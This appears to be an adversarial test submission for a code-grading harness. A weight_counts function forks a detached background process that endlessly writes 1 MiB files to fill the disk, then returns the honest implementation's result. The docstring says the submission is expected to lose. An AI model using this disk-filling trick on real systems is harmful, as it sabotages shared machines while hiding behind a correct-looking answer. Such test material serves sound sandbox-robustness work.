"""Leaves a process behind that fills the disk while other things are asked.

loses: 1b
"""

import os
import time

import honest
from honest import *


def weight_counts(n, k):
    if os.fork() == 0:
        os.setsid()
        number = 0
        while True:
            number += 1
            with open(f"d{number}", "wb") as file:
                file.write(bytes(2**20))
    time.sleep(3)
    return honest.weight_counts(n, k)
